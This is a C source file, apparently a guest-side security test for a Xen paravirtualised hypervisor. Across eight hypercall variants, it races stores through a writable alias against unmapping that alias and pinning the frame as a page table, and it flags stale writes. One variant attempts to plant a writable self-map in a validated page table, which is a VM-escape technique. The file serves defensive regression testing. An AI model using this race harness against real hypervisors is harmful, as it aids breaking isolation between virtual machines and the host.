/*
 * work_stale.c - the stale-writable-TLB escape (issue 8, XSA-401's ordering
 * rule) tried from inside the guest, on 2 vCPUs.
 *
 * Per round, vCPU 0 takes a frame X, maps it read-only in the physmap (a
 * page table may have no writable mapping) and gives it one writable alias
 * W: the physmap slot of a spare pfn P, pointed at X.  vCPU 1 stores
 * through W in a tight loop (no hypercalls, no other exits of its own),
 * counting its iterations in a shared word.  Once vCPU 1 is storing, vCPU 0
 * removes W's mapping and pins X as an L1 table, by one of the variants
 * below.  From the moment the pin returns, no store of vCPU 1 may land in X:
 * every vCPU that could hold a writable translation of X must have flushed
 * before X became a page table.
 *
 * vCPU 1's stores are legal NOT-present L1 entries ((iteration + 1) << 12 |
 * RW | US, present bit clear: a non-present entry holds nothing, pv.h), so a
 * store that lands before the pin is harmless and validates; a store that
 * lands after it is found three ways: the iteration it carries is later
 * than the iteration count vCPU 0 read after the pin returned; X changed
 * between two reads after the pin, taken while vCPU 1 made WAIT_ITERS more
 * iterations (a condition, not a sleep); vCPU 1's last store that did not
 * fault is from such an iteration.  Ordering: vCPU 1 publishes iteration
 * i + 1 before it stores iteration i + 1's values, and the pin's reads of X
 * come before vCPU 0's read of the count, so a value from an iteration
 * beyond that count was stored after the validator read X.
 *
 * Variants (round r uses variant r % NR_VARIANTS):
 *   uva-invlpg-local   update_va_mapping(W, 0, UVMF_INVLPG | UVMF_LOCAL)
 *   uva-invlpg-all     update_va_mapping(W, 0, UVMF_INVLPG | UVMF_ALL)
 *   uva-flush-local    update_va_mapping(W, 0, UVMF_TLB_FLUSH | UVMF_LOCAL)
 *   uva-flush-all      update_va_mapping(W, 0, UVMF_TLB_FLUSH | UVMF_ALL)
 *   mmu-invlpg-all     mmu_update clearing W's L1 entry, MMUEXT_INVLPG_ALL
 *   mmu-flush-all      mmu_update clearing W's L1 entry, MMUEXT_TLB_FLUSH_ALL
 *   multicall          one multicall: update_va_mapping(W, 0, UVMF_INVLPG |
 *                      UVMF_LOCAL, or | UVMF_ALL, in turn) and
 *                      mmuext_op(PIN_L1_TABLE X)
 *   selfmap            the multicall every other round, the six others in
 *                      turn between; from a random iteration on (1 to 2^17
 *                      after the unmap is about to be issued: before it,
 *                      during the call(s), or after they returned) vCPU 1
 *                      also stores X_mfn << 12 | P | RW | US, a writable
 *                      self-map, into slot S.  Seen by the validator it
 *                      makes the pin fail (counted, not a failure); a pin
 *                      that succeeds means S was empty when validated, so
 *                      any self-map store that did not fault landed after
 *                      the validation: a validated L1 holding an entry the
 *                      validator never saw.  Afterwards vCPU 0 stores zero
 *                      over S through the writable-page-table path (a
 *                      direct store to X's read-only mapping, emulated) or
 *                      mmu_update, in turn: the store must succeed, the
 *                      vCPU must not hang, the accounting stays intact.
 *                      (Where an exit flushes the TLB and the unmap's
 *                      return to the guest makes the KVM drop the shadow of
 *                      W on every vCPU, as with a shadow MMU, the multicall
 *                      is where a stale store can still meet a pinned X.)
 *
 * Output: "FAIL: stale vcpu 0: <variant> round <r>: <n> stores landed after
 * the pin" per stale round; "stale: progress <r> of <n> rounds, <k> stale"
 * every 100 rounds; per variant "stale: variant <name> rounds=<n>
 * stale-rounds=<n> stale-writes=<n>"; the summary.  With one vCPU:
 * "stale: skipped (needs 2 vcpus)".
 *
 * Options: rounds=<n> in all (default 400, 50 per variant).
 */
#include "guest.h"

enum {
    S_ROUNDS,
    S_VARIANT0, /* NR_VARIANTS counters */
    S_STALE_ROUNDS = S_VARIANT0 + 8,
    S_STALE_WRITES,
    S_V1_STORES,
    S_V1_FAULTS,
    S_ZERO_STORES,
    S_SELFMAP_REFUSED,
    S_LATE_ROUNDS,
};
static const char *const stale_counters[] = {"rounds",
                                             "variant-uva-invlpg-local",
                                             "variant-uva-invlpg-all",
                                             "variant-uva-flush-local",
                                             "variant-uva-flush-all",
                                             "variant-mmu-invlpg-all",
                                             "variant-mmu-flush-all",
                                             "variant-multicall",
                                             "variant-selfmap",
                                             "stale-rounds",
                                             "stale-writes",
                                             "vcpu1-stores",
                                             "vcpu1-faults",
                                             "zero-stores",
                                             "selfmap-refused",
                                             "late-rounds",
                                             NULL};

enum variant {
    V_UVA_INVLPG_LOCAL,
    V_UVA_INVLPG_ALL,
    V_UVA_FLUSH_LOCAL,
    V_UVA_FLUSH_ALL,
    V_MMU_INVLPG_ALL,
    V_MMU_FLUSH_ALL,
    V_MULTICALL,
    V_SELFMAP,
    NR_VARIANTS,
};
_Static_assert(S_STALE_ROUNDS == S_VARIANT0 + NR_VARIANTS, "counters");
static const char *const variant_name[NR_VARIANTS] = {
    "uva-invlpg-local", "uva-invlpg-all", "uva-flush-local", "uva-flush-all",
    "mmu-invlpg-all",   "mmu-flush-all",  "multicall",       "selfmap",
};

#define NR_SLOTS 4     /* slots of X vCPU 1 stores into per iteration */
#define WARM_ITERS 256 /* iterations through W before the unmap */
#define WAIT_ITERS 32  /* iterations vCPU 1 makes after the pin */
#define NO_ITER (~0ULL)
#define STORE_FLAGS (_PAGE_RW | _PAGE_USER) /* never _PAGE_PRESENT */

/* What the two vCPUs share.  vCPU 0 writes the round's parameters and
 * `go`, later `trigger` and `stop`; vCPU 1 writes `iters` (completed
 * iterations of this round) and, after `stop`, its results and `done`. */
struct race {
    uint64_t w_va;
    uint64_t selfmap_val; /* 0: not a selfmap round */
    unsigned slot[NR_SLOTS], self_slot;
    volatile uint64_t go, stop, quit;
    volatile uint64_t trigger; /* selfmap: from this iteration on */
    volatile uint64_t iters __attribute__((aligned(64)));
    volatile uint64_t done __attribute__((aligned(64)));
    uint64_t first_fault; /* first iteration whose store faulted */
    uint64_t last_ok;     /* last iteration whose stores did not fault */
    uint64_t self_ok;     /* selfmap stores that did not fault */
};

static struct race the_race;

static inline uint64_t load_acq(volatile uint64_t *p)
{
    return __atomic_load_n(p, __ATOMIC_ACQUIRE);
}

static inline void store_rel(volatile uint64_t *p, uint64_t val)
{
    __atomic_store_n(p, val, __ATOMIC_RELEASE);
}

static inline uint64_t slot_val(uint64_t iter)
{
    return (((iter + 1) << GUEST_PAGE_SHIFT) & PTE_ADDR_MASK) | STORE_FLAGS;
}

/* The iteration a value of slot_val() came from, or NO_ITER. */
static inline uint64_t val_iter(uint64_t val)
{
    if (!val || pte_present(val) || (val & 0xfff) != STORE_FLAGS)
        return NO_ITER;
    return (pte_mfn(val)) - 1;
}

/* ---- vCPU 1: the storer ---- */

static void storer_round(struct vcpu *v, struct race *r, uint64_t round)
{
    uint64_t *w = (uint64_t *)(uintptr_t)r->w_va;
    uint64_t first_fault = NO_ITER, last_ok = NO_ITER, self_ok = 0;
    uint64_t ok = 0, faults = 0;
    uint64_t i = 0;

    while (load_acq(&r->stop) != round + 1) {
        uint64_t val = slot_val(i);
        bool faulted = false;
        for (unsigned s = 0; s < NR_SLOTS && !faulted; s++) {
            if (probe_write64((uint64_t)(uintptr_t)&w[r->slot[s]], val)) {
                faulted = true;
                faults++;
            } else {
                ok++;
            }
        }
        uint64_t trigger = __atomic_load_n(&r->trigger, __ATOMIC_RELAXED);
        if (!faulted && r->selfmap_val && trigger && i >= trigger) {
            if (probe_write64((uint64_t)(uintptr_t)&w[r->self_slot],
                              r->selfmap_val)) {
                faulted = true;
                faults++;
            } else {
                ok++;
                self_ok++;
            }
        }
        if (faulted && first_fault == NO_ITER)
            first_fault = i;
        if (!faulted)
            last_ok = i;
        i++;
        store_rel(&r->iters, i);
    }
    r->first_fault = first_fault;
    r->last_ok = last_ok;
    r->self_ok = self_ok;
    v->c[S_V1_STORES] += ok;
    v->c[S_V1_FAULTS] += faults;
    store_rel(&r->done, round + 1);
}

static void storer(struct vcpu *v, struct race *r)
{
    uint64_t seen = 0;
    for (;;) {
        uint64_t go;
        while ((go = load_acq(&r->go)) == seen) {
            if (load_acq(&r->quit))
                return;
            vcpu_yield();
        }
        seen = go;
        storer_round(v, r, go - 1);
    }
}

/* ---- vCPU 0: unmap, pin, look ---- */

/* Spins (no hypercall) until vCPU 1 completed `target` iterations of the
 * round; after a long time yields between looks; false after ~100 s. */
static bool wait_iters(struct race *r, uint64_t target)
{
    for (uint64_t spin = 0;; spin++) {
        if (load_acq(&r->iters) >= target)
            return true;
        if (spin < (1ULL << 22)) {
            __builtin_ia32_pause();
        } else {
            vcpu_yield();
            if (spin > (1ULL << 22) + 2000000)
                return false;
        }
    }
}

static bool wait_done(struct race *r, uint64_t round)
{
    for (uint64_t spin = 0; load_acq(&r->done) != round + 1; spin++) {
        if (spin < (1ULL << 20)) {
            __builtin_ia32_pause();
        } else {
            vcpu_yield();
            if (spin > (1ULL << 20) + 2000000)
                return false;
        }
    }
    return true;
}

/* Removes W's mapping and pins X as an L1, as variant `how` says.  Sets
 * *unmap_rc, and *after_unmap to vCPU 1's iteration count once the unmap
 * and its flush returned (NO_ITER for the multicall); returns the pin's
 * result. */
static long unmap_and_pin(struct kernel *k, struct race *r, enum variant how,
                          bool mc_local, uint64_t w_va, uint64_t spare_pfn,
                          uint64_t x_mfn, long *unmap_rc, uint64_t *after_unmap)
{
    struct mmuext_op pin = {.cmd = MMUEXT_PIN_L1_TABLE, .arg1.mfn = x_mfn};
    static const uint64_t uva_flags[] = {
        [V_UVA_INVLPG_LOCAL] = UVMF_INVLPG | UVMF_LOCAL,
        [V_UVA_INVLPG_ALL] = UVMF_INVLPG | UVMF_ALL,
        [V_UVA_FLUSH_LOCAL] = UVMF_TLB_FLUSH | UVMF_LOCAL,
        [V_UVA_FLUSH_ALL] = UVMF_TLB_FLUSH | UVMF_ALL,
    };

    switch (how) {
    case V_UVA_INVLPG_LOCAL:
    case V_UVA_INVLPG_ALL:
    case V_UVA_FLUSH_LOCAL:
    case V_UVA_FLUSH_ALL:
        *unmap_rc = hc_update_va_mapping(w_va, 0, uva_flags[how]);
        break;
    case V_MMU_INVLPG_ALL:
    case V_MMU_FLUSH_ALL: {
        struct mmu_update u = {
            .ptr = mm_physmap_pte_maddr(k, spare_pfn) | MMU_NORMAL_PT_UPDATE,
            .val = 0,
        };
        unsigned done = 0;
        struct mmuext_op fl = {
            .cmd = how == V_MMU_INVLPG_ALL ? MMUEXT_INVLPG_ALL
                                           : MMUEXT_TLB_FLUSH_ALL,
            .arg1.linear_addr = w_va,
        };
        *unmap_rc = hc_mmu_update(&u, 1, &done);
        if (*unmap_rc == 0 && done != 1)
            *unmap_rc = -XEN_EIO;
        if (*unmap_rc == 0)
            *unmap_rc = hc_mmuext_op(&fl, 1, NULL);
        break;
    }
    case V_MULTICALL: {
        struct multicall_entry mc[2] = {
            {.op = __HYPERVISOR_update_va_mapping,
             .args = {w_va, 0,
                      UVMF_INVLPG | (mc_local ? UVMF_LOCAL : UVMF_ALL)}},
            {.op = __HYPERVISOR_mmuext_op,
             .args = {(uint64_t)(uintptr_t)&pin, 1, 0, DOMID_SELF}},
        };
        long rc = hypercall(__HYPERVISOR_multicall, (uint64_t)(uintptr_t)mc, 2,
                            0, 0, 0);
        *unmap_rc = rc ? rc : (long)mc[0].result;
        *after_unmap = NO_ITER;
        return rc ? rc : (long)mc[1].result;
    }
    default:
        *unmap_rc = -XEN_EINVAL;
        *after_unmap = NO_ITER;
        return -XEN_EINVAL;
    }
    *after_unmap = load_acq(&r->iters);
    if (*unmap_rc)
        return -XEN_EINVAL;
    return hc_mmuext_op(&pin, 1, NULL);
}

struct variant_stats {
    uint64_t rounds, stale_rounds, stale_writes, late_rounds;
};

struct stale_stats {
    struct variant_stats var[NR_VARIANTS];
    /* vCPU 1's iterations from just before the unmap to its first fault
     * (its TLB flushed), the last time it faulted, per unmap method */
    uint64_t to_fault[NR_VARIANTS];
};

/* One round; returns false when the workload cannot go on. */
static bool attacker_round(struct kernel *k, struct vcpu *v, struct race *r,
                           uint64_t round, struct stale_stats *st)
{
    enum variant variant = (enum variant)(round % NR_VARIANTS);
    enum variant how = variant;
    const char *name = variant_name[variant];
    struct variant_stats *vs = &st->var[variant];
    bool ok = true;

    /* The multicall's unmap flushes this vCPU or all of them, in turn. */
    uint64_t j = round / NR_VARIANTS;
    bool mc_local = j % 2;
    if (variant == V_SELFMAP) {
        /* Every other selfmap round a multicall: its unmap and pin are one
         * hypercall, the widest window (docs in the header). */
        how = j % 2 ? (enum variant)((j / 2) % V_SELFMAP) : V_MULTICALL;
        mc_local = (j / 2) % 2;
    }

    uint64_t x = mm_alloc(k), spare = mm_alloc(k);
    if (x == INVALID_P2M || spare == INVALID_P2M) {
        vfail(v, "stale", "out of memory");
        if (x != INVALID_P2M)
            mm_free(k, x);
        if (spare != INVALID_P2M)
            mm_free(k, spare);
        return false;
    }
    uint64_t x_mfn = k->p2m[x], w_va = physmap_va(spare);
    uint64_t *xro = mm_va(x);

    /* X read-only first, then its one writable alias W. */
    long rc = mm_set_physmap_pte(k, x, pte_make(x_mfn, PTE_DATA & ~_PAGE_RW),
                                 PTE_BY_UVA);
    if (rc) {
        vfail(v, "stale", "round %lu: mapping X read-only: %ld", round, rc);
        mm_free(k, x);
        mm_free(k, spare);
        return false;
    }
    rc = mm_set_physmap_pte(k, spare, pte_make(x_mfn, PTE_DATA), PTE_BY_UVA);
    if (rc) {
        vfail(v, "stale", "round %lu: mapping W: %ld", round, rc);
        (void)mm_set_physmap_pte(k, x, pte_make(x_mfn, PTE_DATA), PTE_BY_UVA);
        mm_free(k, x);
        mm_free(k, spare);
        return false;
    }

    r->w_va = w_va;
    /* The self-map's slot among the first the validator reads. */
    r->self_slot = (unsigned)krand_below(&v->rng, 8);
    for (unsigned s = 0; s < NR_SLOTS; s++)
        r->slot[s] = (unsigned)(8 + s * 126 + krand_below(&v->rng, 126));
    r->selfmap_val =
        variant == V_SELFMAP
            ? pte_make(x_mfn, _PAGE_PRESENT | _PAGE_RW | _PAGE_USER)
            : 0;
    store_rel(&r->trigger, 0);
    store_rel(&r->iters, 0);
    store_rel(&r->go, round + 1);

    /* vCPU 1 is storing through W, its TLB warm. */
    if (!wait_iters(r, WARM_ITERS)) {
        vfail(v, "stale", "round %lu: vCPU 1 never started storing", round);
        store_rel(&r->stop, round + 1);
        store_rel(&r->quit, 1);
        return false;
    }
    uint64_t before_unmap = load_acq(&r->iters);
    if (r->selfmap_val) {
        /* The self-map from a random point on: before the unmap (the pin
         * must then refuse it), during the call(s), or after they
         * returned.  Half the rounds log-uniform over 1 to 2^17
         * iterations from here, half uniform up to where vCPU 1's first
         * fault came the last time. */
        uint64_t span = st->to_fault[how], d;
        if (span && krand_below(&v->rng, 2)) {
            d = 1 + krand_below(&v->rng, span + 1);
        } else {
            uint64_t scale = 1ULL << krand_below(&v->rng, 17);
            d = scale + krand_below(&v->rng, scale);
        }
        store_rel(&r->trigger, before_unmap + d);
    }
    long unmap_rc;
    uint64_t after_unmap;
    long pin_rc = unmap_and_pin(k, r, how, mc_local, w_va, spare, x_mfn,
                                &unmap_rc, &after_unmap);
    uint64_t c = load_acq(&r->iters); /* after the pin returned */
    uint64_t a[NR_SLOTS + 1];
    for (unsigned s = 0; s < NR_SLOTS; s++)
        a[s] = xro[r->slot[s]];
    a[NR_SLOTS] = xro[r->self_slot];
    bool progressed = wait_iters(r, c + WAIT_ITERS);
    uint64_t stale_seen = 0; /* landed stores seen in X's contents */
    for (unsigned s = 0; s <= NR_SLOTS; s++) {
        unsigned slot = s < NR_SLOTS ? r->slot[s] : r->self_slot;
        uint64_t b = xro[slot];
        uint64_t it = val_iter(b);
        if (b != a[s] || (it != NO_ITER && it > c) ||
            (r->selfmap_val && b == r->selfmap_val))
            stale_seen++;
    }
    store_rel(&r->stop, round + 1);
    if (!wait_done(r, round)) {
        vfail(v, "stale", "round %lu: vCPU 1 never stopped", round);
        store_rel(&r->quit, 1);
        return false;
    }
    if (!progressed)
        vfail(v, "stale", "round %lu: vCPU 1 made no progress after the pin",
              round);
    if (r->first_fault != NO_ITER && r->first_fault >= before_unmap)
        st->to_fault[how] = r->first_fault - before_unmap;

    if (unmap_rc)
        vfail(v, "stale", "%s round %lu: removing W's mapping: %ld", name,
              round, unmap_rc);
    if (r->first_fault != NO_ITER && r->first_fault < before_unmap)
        vfail(v, "stale",
              "%s round %lu: a store through W faulted before the unmap "
              "(iteration %lu)",
              name, round, r->first_fault);
    /* Once an unmap whose flush names every vCPU (UVMF_ALL,
     * MMUEXT_*_ALL) returned, no store through W may land at all. */
    bool flush_all = how == V_UVA_INVLPG_ALL || how == V_UVA_FLUSH_ALL ||
                     how == V_MMU_INVLPG_ALL || how == V_MMU_FLUSH_ALL;
    if (flush_all && !unmap_rc && after_unmap != NO_ITER &&
        r->last_ok != NO_ITER && r->last_ok > after_unmap) {
        vfail(v, "stale",
              "%s round %lu: %lu stores landed after the unmap and its "
              "flush of every vCPU returned",
              name, round, (r->last_ok - after_unmap) * NR_SLOTS);
        v->c[S_LATE_ROUNDS]++;
        vs->late_rounds++;
    }

    uint64_t landed = 0;
    if (pin_rc == 0) {
        if (r->last_ok != NO_ITER && r->last_ok > c)
            landed = (r->last_ok - c) * NR_SLOTS;
        /* S held nothing when the validator read it and only the
         * self-map is ever stored there: every one that did not fault
         * landed after that read. */
        landed += r->self_ok;
        if (stale_seen && !landed)
            landed = stale_seen;
        if (landed) {
            vfail(v, "stale", "%s round %lu: %lu stores landed after the pin",
                  name, round, landed);
            v->c[S_STALE_ROUNDS]++;
            v->c[S_STALE_WRITES] += landed;
            vs->stale_rounds++;
            vs->stale_writes += landed;
        }
    } else if (r->selfmap_val && xro[r->self_slot] == r->selfmap_val) {
        v->c[S_SELFMAP_REFUSED]++; /* the validator saw the self-map */
    } else {
        /* After the unmap X has no writable mapping: the pin of an L1
         * holding only non-present entries must succeed. */
        vfail(v, "stale", "%s round %lu: pin of X refused: %ld", name, round,
              pin_rc);
    }

    if (pin_rc == 0 && variant == V_SELFMAP) {
        /* Zero over the self-map slot by the writable-page-table path or
         * mmu_update: an entry the validator never saw must not be
         * "released". */
        enum pte_method m =
            (round / NR_VARIANTS) % 2 ? PTE_BY_MMU_UPDATE : PTE_BY_DIRECT;
        rc = mm_set_entry(k, x_mfn, xro, r->self_slot, 0, m);
        if (rc || xro[r->self_slot] != 0)
            vfail(v, "stale",
                  "%s round %lu: zero over slot %u by %s: %ld (entry %lx)",
                  name, round, r->self_slot, pte_method_name[m], rc,
                  xro[r->self_slot]);
        else
            v->c[S_ZERO_STORES]++;
    }

    /* Tear down: unpin, X writable again, P back to its own frame. */
    bool keep_x = false;
    if (pin_rc == 0 && (rc = mm_unpin(x_mfn))) {
        vfail(v, "stale", "%s round %lu: unpin of X: %ld", name, round, rc);
        keep_x = true;
        ok = false;
    }
    if (!keep_x && (rc = mm_set_physmap_pte(k, x, pte_make(x_mfn, PTE_DATA),
                                            PTE_BY_UVA))) {
        vfail(v, "stale", "%s round %lu: X not mappable writable again: %ld",
              name, round, rc);
        keep_x = true;
    }
    if ((rc = mm_set_physmap_pte(k, spare, pte_make(k->p2m[spare], PTE_DATA),
                                 PTE_BY_UVA))) {
        vfail(v, "stale", "round %lu: restoring the spare pfn: %ld", round, rc);
        ok = false;
    } else {
        mm_free(k, spare);
    }
    if (!keep_x)
        mm_free(k, x);

    v->c[S_ROUNDS]++;
    v->c[S_VARIANT0 + variant]++;
    vs->rounds++;
    return ok;
}

static int stale_run(struct kernel *k, struct vcpu *v)
{
    struct race *r = &the_race;
    uint64_t rounds = cmdline_num(k, "rounds", 50 * NR_VARIANTS);

    if (k->nr_vcpus < 2) {
        kprintf(k, "stale: skipped (needs 2 vcpus)\n");
        return 0;
    }
    if (v->id == 1) {
        storer(v, r);
        return 0;
    }
    if (v->id != 0)
        return 0;

    /* The workload runs once per boot: the shared words start at 0. */
    static struct stale_stats st;
    struct variant_stats *vs = st.var;
    for (uint64_t round = 0; round < rounds; round++) {
        if (!attacker_round(k, v, r, round, &st))
            break;
        if (round % 100 == 99 && round + 1 < rounds)
            kprintf(k, "stale: progress %lu of %lu rounds, %lu stale\n",
                    round + 1, rounds, v->c[S_STALE_ROUNDS]);
    }
    store_rel(&r->quit, 1);
    for (unsigned i = 0; i < NR_VARIANTS; i++)
        kprintf(k,
                "stale: variant %s rounds=%lu stale-rounds=%lu "
                "stale-writes=%lu late-rounds=%lu\n",
                variant_name[i], vs[i].rounds, vs[i].stale_rounds,
                vs[i].stale_writes, vs[i].late_rounds);
    return v->fails ? -1 : 0;
}

const struct workload work_stale = {
    .name = "stale",
    .run = stale_run,
    .counters = stale_counters,
};
